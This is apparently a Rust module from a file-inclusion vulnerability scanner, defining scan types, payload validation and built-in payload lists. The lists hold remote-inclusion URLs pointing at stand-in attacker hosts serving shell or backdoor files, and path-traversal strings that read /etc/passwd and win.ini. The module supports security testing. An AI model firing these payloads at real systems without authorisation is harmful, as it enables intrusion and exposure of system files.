use std::{fmt, str::FromStr};

use anyhow::Result as AnyResult;
use async_trait::async_trait;
use serde::{Deserialize, Serialize};
use thiserror::Error;

pub mod file_repository;

const RFI_PAYLOADS: &[&str] = &[
    "http://evil.com/shell.txt?",
    "http://attacker.com/backdoor.php?",
    "http://malicious.com/exploit.txt?",
    "http://test.com/response.txt?",
    "http://demo.com/test.txt?",
];

const LFI_PAYLOADS: &[&str] = &[
    "/../../../../../../../../etc/passwd",
    "/../../../../../../../../windows/win.ini",
    "/../../../../../../../../etc/hosts",
    "/../../../../../../../../proc/version",
    "/../../../../../../../../etc/issue",
];

/// Inclusion class a payload set targets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
#[serde(rename_all = "lowercase")]
pub enum ScanType {
    #[default]
    Rfi,
    Lfi,
}

impl ScanType {
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Rfi => "rfi",
            Self::Lfi => "lfi",
        }
    }

    /// File name used by payload packs on disk (`rfi.txt`, `lfi.txt`).
    pub fn pack_file_name(&self) -> String {
        format!("{}.txt", self.as_str())
    }
}

impl fmt::Display for ScanType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Error, Clone, PartialEq, Eq)]
#[error("unknown scan type `{0}` (expected `rfi` or `lfi`)")]
pub struct UnknownScanType(pub String);

impl FromStr for ScanType {
    type Err = UnknownScanType;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "rfi" => Ok(Self::Rfi),
            "lfi" => Ok(Self::Lfi),
            other => Err(UnknownScanType(other.to_string())),
        }
    }
}

/// A URL suffix appended verbatim to each target.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payload {
    pub value: String,
    pub scan_type: ScanType,
}

impl Payload {
    /// Construct a payload, validating invariants before returning.
    pub fn new(
        value: impl Into<String>,
        scan_type: ScanType,
    ) -> Result<Self, PayloadValidationError> {
        let payload = Self {
            value: value.into(),
            scan_type,
        };
        payload.validate()?;
        Ok(payload)
    }

    pub fn validate(&self) -> Result<(), PayloadValidationError> {
        if self.value.is_empty() {
            return Err(PayloadValidationError::Empty);
        }
        if self.value.chars().any(char::is_whitespace) {
            return Err(PayloadValidationError::Whitespace {
                value: self.value.clone(),
            });
        }
        Ok(())
    }
}

/// Errors emitted while validating payload definitions.
#[derive(Debug, Error, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum PayloadValidationError {
    #[error("payload must not be empty")]
    Empty,
    #[error("payload `{value}` must not contain whitespace")]
    Whitespace { value: String },
}

/// Built-in payload sets shipped with the scanner.
#[derive(Debug, Default, Clone, Copy)]
pub struct BuiltinPayloads;

impl BuiltinPayloads {
    pub fn payloads(scan_type: ScanType) -> Vec<Payload> {
        let values = match scan_type {
            ScanType::Rfi => RFI_PAYLOADS,
            ScanType::Lfi => LFI_PAYLOADS,
        };
        values
            .iter()
            .map(|value| Payload {
                value: (*value).to_string(),
                scan_type,
            })
            .collect()
    }
}

/// Source of payload sets so built-in lists and on-disk packs can be swapped.
#[async_trait]
pub trait PayloadRepository: Send + Sync {
    async fn load_payloads(&self, scan_type: ScanType) -> AnyResult<Vec<Payload>>;
}

#[async_trait]
impl PayloadRepository for BuiltinPayloads {
    async fn load_payloads(&self, scan_type: ScanType) -> AnyResult<Vec<Payload>> {
        Ok(Self::payloads(scan_type))
    }
}
